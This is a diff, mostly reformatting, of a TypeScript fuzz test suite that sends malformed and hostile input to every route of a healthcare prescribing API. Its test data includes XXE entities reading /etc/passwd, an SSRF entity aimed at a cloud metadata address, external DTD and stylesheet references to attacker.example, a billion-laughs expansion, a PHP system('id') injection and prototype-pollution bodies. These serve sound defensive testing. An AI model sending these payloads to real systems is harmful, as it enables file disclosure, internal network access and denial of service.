@@ -25,7 +25,20 @@ import { hashToken } from '../../src/services/auth/logIn.js';
 import { testPracticeClient } from '../support/interopActors.js';
 import { startTestApi, TEST_PASSWORD, type StaffRole } from '../support/api.js';
 import { assertStatus, authorizeAndDispense, enrollPatient, pcngpVisit, requestAuthorization } from '../support/journeys.js';
-import { insertFeedback, insertMatchReview, insertMissedDoseReport, insertOrder, pathParamValue, payloadOf, refusalFormatProblem, sampleName, samplesOf, urlOf, type RouteContext, type RouteSample } from '../support/routes.js';
+import {
+  insertFeedback,
+  insertMatchReview,
+  insertMissedDoseReport,
+  insertOrder,
+  pathParamValue,
+  payloadOf,
+  refusalFormatProblem,
+  sampleName,
+  samplesOf,
+  urlOf,
+  type RouteContext,
+  type RouteSample,
+} from '../support/routes.js';
 import { registerInteropClient } from '../support/interopClients.js';
 
 const ON = '2025-03-10';
@@ -198,7 +211,10 @@ function percentEncoded(value: string): string {
 }
 
 function pathValues(real: string): PathValue[] {
-  const encoded = (value: string): PathValue => ({ label: JSON.stringify(value.length > 60 ? `${value.slice(0, 20)}…(${value.length})` : value), segment: percentEncoded(value) });
+  const encoded = (value: string): PathValue => ({
+    label: JSON.stringify(value.length > 60 ? `${value.slice(0, 20)}…(${value.length})` : value),
+    segment: percentEncoded(value),
+  });
   const raw = (segment: string): PathValue => ({ label: `raw ${segment.length > 60 ? `${segment.slice(0, 20)}…(${segment.length})` : segment}`, segment });
   return [
     ...['not-a-uuid', '123', '-1', 'null', 'undefined', '00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff'].map(encoded),
@@ -512,7 +528,10 @@ function xmlCases(sample: string, contentType: string): FuzzCase[] {
     cases.push({ category: 'malformed XML', label, payload });
   }
 
-  const laughs = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`)].join('');
+  const laughs = [
+    '<!ENTITY lol "lol">',
+    ...Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`),
+  ].join('');
   for (const [label, declaration, reference] of [
     ['external entity: a file (XXE)', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', '&xxe;'],
     ['external entity: a URL (SSRF)', '<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">', '&xxe;'],
@@ -534,13 +553,22 @@ function xmlCases(sample: string, contentType: string): FuzzCase[] {
   ] as const) {
     cases.push({ category: 'XML entities and DTDs', label, payload: first === undefined ? `${sample}${reference}` : withText(sample, first, reference) });
   }
-  cases.push({ category: 'XML entities and DTDs', label: 'an external DTD', payload: `${prolog}<!DOCTYPE ${root} SYSTEM "http://attacker.example/evil.dtd">${document}` });
+  cases.push({
+    category: 'XML entities and DTDs',
+    label: 'an external DTD',
+    payload: `${prolog}<!DOCTYPE ${root} SYSTEM "http://attacker.example/evil.dtd">${document}`,
+  });
   cases.push({
     category: 'XML entities and DTDs',
     label: 'XInclude of a file',
-    payload: first === undefined ? sample : withText(sample, first, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
+    payload:
+      first === undefined ? sample : withText(sample, first, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
   });
-  cases.push({ category: 'XML entities and DTDs', label: 'a stylesheet instruction', payload: `${prolog}<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>${document}` });
+  cases.push({
+    category: 'XML entities and DTDs',
+    label: 'a stylesheet instruction',
+    payload: `${prolog}<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>${document}`,
+  });
 
   for (const [label, payload] of [
     ['another root element', `${prolog}<Unexpected>${document}</Unexpected>`],
@@ -548,7 +576,10 @@ function xmlCases(sample: string, contentType: string): FuzzCase[] {
     ['a foreign default namespace', `${prolog}${document.replace(`<${root}`, `<${root} xmlns="urn:attacker:evil"`)}`],
     ['10,000 nested elements', `${prolog}<${root}>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</${root}>`],
     ['100,000 sibling elements', `${prolog}<${root}>${'<a/>'.repeat(100_000)}</${root}>`],
-    ['10,000 attributes', `${prolog}<${root} ${Array.from({ length: 10_000 }, (_, index) => `a${index}="1"`).join(' ')}>${document.slice(document.indexOf('>') + 1)}`],
+    [
+      '10,000 attributes',
+      `${prolog}<${root} ${Array.from({ length: 10_000 }, (_, index) => `a${index}="1"`).join(' ')}>${document.slice(document.indexOf('>') + 1)}`,
+    ],
     ['an element name of 100,000 characters', `${prolog}<${root}><${'n'.repeat(100_000)}/></${root}>`],
     ['a processing instruction in a value', first === undefined ? sample : withText(sample, first, "<?php system('id'); ?>")],
     ['a value in CDATA', first === undefined ? sample : withText(sample, first, `<![CDATA[${first.text}]]>`)],
@@ -568,7 +599,11 @@ function xmlCases(sample: string, contentType: string): FuzzCase[] {
   ] as const) {
     cases.push({ category: 'content types', label, contentType: type, payload: sample });
   }
-  cases.push({ category: 'oversized bodies', label: '10 MB XML', payload: `${prolog}<${root}><!--${'x'.repeat(10 * 1024 * 1024)}-->${document.slice(document.indexOf('>') + 1)}` });
+  cases.push({
+    category: 'oversized bodies',
+    label: '10 MB XML',
+    payload: `${prolog}<${root}><!--${'x'.repeat(10 * 1024 * 1024)}-->${document.slice(document.indexOf('>') + 1)}`,
+  });
   cases.push({ category: 'oversized bodies', label: 'just under 1 MiB', payload: `${sample}<!--${'x'.repeat(1024 * 1024 - sample.length - 100)}-->` });
 
   // Every value of the message, one at a time: hostile text (escaped, as a sender would), numbers and dates.
@@ -592,7 +627,14 @@ function randomXmlCase(sample: string, url: string): fc.Arbitrary<FuzzCase> {
   const nodes = textNodes(sample);
   return fc
     .record({
-      changes: fc.array(fc.record({ node: fc.nat({ max: Math.max(0, nodes.length - 1) }), value: fc.oneof(fc.constantFrom(...HOSTILE_TEXT), fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: 'grapheme', maxLength: 40 })), escaped: fc.boolean() }), { minLength: 1, maxLength: 3 }),
+      changes: fc.array(
+        fc.record({
+          node: fc.nat({ max: Math.max(0, nodes.length - 1) }),
+          value: fc.oneof(fc.constantFrom(...HOSTILE_TEXT), fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: 'grapheme', maxLength: 40 })),
+          escaped: fc.boolean(),
+        }),
+        { minLength: 1, maxLength: 3 },
+      ),
     })
     .map(({ changes }) => {
       // From the last value to the first, so earlier positions stay right.
@@ -701,7 +743,11 @@ function casesFor(operation: Operation, fullSample: Record<string, unknown> | nu
     cases.push({ category: 'oversized bodies', label: '10 MB JSON', payload: tenMegabytes });
     cases.push({ category: 'oversized bodies', label: '10 MB text/plain', contentType: 'text/plain', payload: 'x'.repeat(10 * 1024 * 1024) });
     cases.push({ category: 'oversized bodies', label: '1 MiB + 1 byte', payload: JSON.stringify({ ...sample, padding: 'x'.repeat(1024 * 1024) }) });
-    cases.push({ category: 'oversized bodies', label: 'just under 1 MiB', payload: JSON.stringify({ ...sample, padding: 'x'.repeat(1024 * 1024 - base.length - 100) }) });
+    cases.push({
+      category: 'oversized bodies',
+      label: 'just under 1 MiB',
+      payload: JSON.stringify({ ...sample, padding: 'x'.repeat(1024 * 1024 - base.length - 100) }),
+    });
 
     if (sample !== null && fullSample !== null && operation.body !== null) {
       const fields = fieldsOf(operation.body, fullSample);
@@ -759,7 +805,14 @@ function casesFor(operation: Operation, fullSample: Record<string, unknown> | nu
           }
         }
         if (field.kind === 'email') {
-          for (const value of ['a@b', 'x@x.example\u0000', '"<script>"@x.example', "o'hara@test.example", 'x@[127.0.0.1]', `${'a'.repeat(64)}@${'b'.repeat(190)}.example`]) {
+          for (const value of [
+            'a@b',
+            'x@x.example\u0000',
+            '"<script>"@x.example',
+            "o'hara@test.example",
+            'x@[127.0.0.1]',
+            `${'a'.repeat(64)}@${'b'.repeat(190)}.example`,
+          ]) {
             plant('hostile strings', value);
           }
         }
@@ -774,7 +827,12 @@ function casesFor(operation: Operation, fullSample: Record<string, unknown> | nu
         const shapes: unknown[] = [deepArray(1_000), deepObject(1_000), new RawJson(`{"__proto__":${JSON.stringify(sample)}}`)];
         const current = valueAt(around, field.path);
         if (field.kind === 'array') {
-          shapes.push({ 0: Array.isArray(current) ? current[0] : 'x' }, Array.from({ length: 10_000 }, () => (Array.isArray(current) ? current[0] : 'x')), [current], [null]);
+          shapes.push(
+            { 0: Array.isArray(current) ? current[0] : 'x' },
+            Array.from({ length: 10_000 }, () => (Array.isArray(current) ? current[0] : 'x')),
+            [current],
+            [null],
+          );
         }
         if (field.kind === 'object') {
           shapes.push([current], [], 'object');
@@ -787,7 +845,6 @@ function casesFor(operation: Operation, fullSample: Record<string, unknown> | nu
         }
       }
     }
-
   }
 
   // Path parameters, one at a time, the others left valid.
@@ -815,7 +872,23 @@ function casesFor(operation: Operation, fullSample: Record<string, unknown> | nu
   const validQuery = new URLSearchParams(queryPart ?? '');
   const queryParameters = operation.parameters.filter((candidate) => candidate.in === 'query');
   for (const parameter of queryParameters) {
-    const values = [...HOSTILE_SAMPLE, '', 'x'.repeat(10_000), '0', '-1', '1001', '1e3', '10.5', ' 10', '10 ', '0x10', '١٠', '１０', 'abcdefghij', ...INVALID_DATES.slice(0, 6)];
+    const values = [
+      ...HOSTILE_SAMPLE,
+      '',
+      'x'.repeat(10_000),
+      '0',
+      '-1',
+      '1001',
+      '1e3',
+      '10.5',
+      ' 10',
+      '10 ',
+      '0x10',
+      '١٠',
+      '１０',
+      'abcdefghij',
+      ...INVALID_DATES.slice(0, 6),
+    ];
     for (const value of values) {
       const query = new URLSearchParams(validQuery);
       query.set(parameter.name, value);
@@ -865,7 +938,11 @@ function casesFor(operation: Operation, fullSample: Record<string, unknown> | nu
     // (On an interop route: a person's session cookie, which never opens a machine's door.)
     cases.push({ category: 'credentials and headers', label: 'the session as a cookie, without the CSRF header', sessionAsCookie: true });
     if (operation.sample.client !== undefined) {
-      cases.push({ category: 'credentials and headers', label: "a person's session as the bearer token", credentials: { authorization: `Bearer ${STAFF_SESSION_MARK}` } });
+      cases.push({
+        category: 'credentials and headers',
+        label: "a person's session as the bearer token",
+        credentials: { authorization: `Bearer ${STAFF_SESSION_MARK}` },
+      });
     }
   }
   if (operation.method !== 'GET') {
@@ -914,7 +991,10 @@ function randomCase(operation: Operation, fullSample: Record<string, unknown> | 
   const { light: sample } = lighter(operation.body, fullSample);
   const targets = fullSample === null || operation.body === null ? [] : fieldsOf(operation.body, fullSample).map((field) => field.path);
   const mutation: fc.Arbitrary<Mutation> = fc.record({
-    target: targets.length === 0 ? fc.constant(['extra']) : fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...targets) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }).map((key) => [key]) }),
+    target:
+      targets.length === 0
+        ? fc.constant(['extra'])
+        : fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...targets) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }).map((key) => [key]) }),
     value: randomValue,
     remove: fc.integer({ min: 0, max: 4 }).map((draw) => draw === 0),
   });
@@ -922,8 +1002,17 @@ function randomCase(operation: Operation, fullSample: Record<string, unknown> | 
   return fc
     .record({
       mutations: fc.array(mutation, { minLength: sample === null ? 0 : 1, maxLength: 3 }),
-      query: fc.option(fc.dictionary(fc.string({ maxLength: 10 }), fc.oneof(fc.string({ unit: 'binary', maxLength: 20 }), fc.constantFrom(...HOSTILE_TEXT.filter((value) => value.length < 1000)))), { freq: 3 }),
-      pathValue: pathParameters.length === 0 ? fc.constant(null) : fc.option(fc.tuple(fc.constantFrom(...pathParameters.map((p) => p.name)), fc.string({ unit: 'binary', maxLength: 40 })), { freq: 4 }),
+      query: fc.option(
+        fc.dictionary(
+          fc.string({ maxLength: 10 }),
+          fc.oneof(fc.string({ unit: 'binary', maxLength: 20 }), fc.constantFrom(...HOSTILE_TEXT.filter((value) => value.length < 1000))),
+        ),
+        { freq: 3 },
+      ),
+      pathValue:
+        pathParameters.length === 0
+          ? fc.constant(null)
+          : fc.option(fc.tuple(fc.constantFrom(...pathParameters.map((p) => p.name)), fc.string({ unit: 'binary', maxLength: 40 })), { freq: 4 }),
     })
     .map(({ mutations, query, pathValue }) => {
       let body = sample === null ? null : copyOf(sample);
@@ -1147,7 +1236,9 @@ describe('fuzzing every operation of the OpenAPI document with bad input', () =>
     const recorded = tables.rows.map((row) => row.table_name).filter((table) => !NOT_RECORDS.includes(table));
     assert.ok(recorded.includes('patients') && recorded.includes('pregnancy_tests'), recorded.join());
     for (const table of recorded) {
-      await sql`CREATE TRIGGER fuzz_record_write AFTER INSERT OR UPDATE OR DELETE ON ${sql.table(table)} FOR EACH ROW EXECUTE FUNCTION fuzz_record_write()`.execute(api.services.db);
+      await sql`CREATE TRIGGER fuzz_record_write AFTER INSERT OR UPDATE OR DELETE ON ${sql.table(table)} FOR EACH ROW EXECUTE FUNCTION fuzz_record_write()`.execute(
+        api.services.db,
+      );
     }
   });
 
@@ -1189,7 +1280,9 @@ describe('fuzzing every operation of the OpenAPI document with bad input', () =>
        */
       const sampleMessageId = /<MessageID>([^<]*)<\/MessageID>/.exec(payloadOf(operation.sample, ctx)?.payload ?? '')?.[1];
       const freshMessageId = (payload: string): string =>
-        sampleMessageId === undefined || operation.sample.raw === undefined ? payload : payload.replace(`<MessageID>${sampleMessageId}</MessageID>`, `<MessageID>f${sequence}-${sampleMessageId}</MessageID>`);
+        sampleMessageId === undefined || operation.sample.raw === undefined
+          ? payload
+          : payload.replace(`<MessageID>${sampleMessageId}</MessageID>`, `<MessageID>f${sequence}-${sampleMessageId}</MessageID>`);
 
       // Who sends it: the usual caller, or the first role the operation does not refuse.
       // An interop route is sent by its client alone: no person's session is tried in its place.
@@ -1213,10 +1306,22 @@ describe('fuzzing every operation of the OpenAPI document with bad input', () =>
 
       async function send(fuzzCase: FuzzCase, role: Caller): Promise<{ response: LightMyRequestResponse; writes: Write[] }> {
         const { light: sample } = lighter(operation.body, sampleBody());
-        const sent = fuzzCase.payload === undefined ? (operation.sample.raw !== undefined ? (sentAs?.payload ?? null) : sample === null ? null : serialize(sample)) : fuzzCase.payload;
+        const sent =
+          fuzzCase.payload === undefined
+            ? operation.sample.raw !== undefined
+              ? (sentAs?.payload ?? null)
+              : sample === null
+                ? null
+                : serialize(sample)
+            : fuzzCase.payload;
         const payload = sent === null ? null : freshMessageId(freshEmails(sent));
         // The route's own content type (JSON, FHIR JSON, XML) unless the case sends another.
-        const contentType = fuzzCase.contentType === undefined ? (payload === null ? null : (sentAs?.contentType ?? operation.sample.contentType ?? 'application/json')) : fuzzCase.contentType;
+        const contentType =
+          fuzzCase.contentType === undefined
+            ? payload === null
+              ? null
+              : (sentAs?.contentType ?? operation.sample.contentType ?? 'application/json')
+            : fuzzCase.contentType;
         const credentials = fuzzCase.credentials === undefined ? await credentialsOf(role, fuzzCase.sessionAsCookie) : (fuzzCase.credentials ?? {});
         const headers: Record<string, string> = {
           ...Object.fromEntries(Object.entries(credentials).map(([name, value]) => [name, value.replace(STAFF_SESSION_MARK, tokens.get('prescriber') ?? '')])),
@@ -1235,7 +1340,11 @@ describe('fuzzing every operation of the OpenAPI document with bad input', () =>
       // The valid sample: what an accepted request of this operation writes.
       let role = roles[0] as Caller;
       const sample = sampleBody();
-      const sampleCase: FuzzCase = { category: 'keys', label: 'sample', payload: operation.sample.raw !== undefined ? (sentAs?.payload ?? null) : sample === null ? null : serialize(sample) };
+      const sampleCase: FuzzCase = {
+        category: 'keys',
+        label: 'sample',
+        payload: operation.sample.raw !== undefined ? (sentAs?.payload ?? null) : sample === null ? null : serialize(sample),
+      };
       let baseline = await send(sampleCase, role);
       for (const candidate of roles.slice(1)) {
         if (baseline.response.statusCode !== 403) {
@@ -1312,7 +1421,12 @@ describe('fuzzing every operation of the OpenAPI document with bad input', () =>
       /** What was accepted must not break what is read afterwards: the patient's record, status and clinical view. */
       async function readsStillWork(after: string): Promise<string[]> {
         const found: string[] = [];
-        for (const path of [`/api/v1/patients/${ctx.patientId}`, `/api/v1/patients/${ctx.patientId}/status`, `/api/v1/patients/${ctx.patientId}/clinical`, '/api/v1/worklist']) {
+        for (const path of [
+          `/api/v1/patients/${ctx.patientId}`,
+          `/api/v1/patients/${ctx.patientId}/status`,
+          `/api/v1/patients/${ctx.patientId}/clinical`,
+          '/api/v1/worklist',
+        ]) {
           const read = await api.app.inject({ method: 'GET', url: path, headers: { authorization: `Bearer ${tokens.get('prescriber')}` } });
           if (read.statusCode !== 200) {
             found.push(`after ${after}: GET ${path} → ${read.statusCode} ${read.body.slice(0, 200)}`);
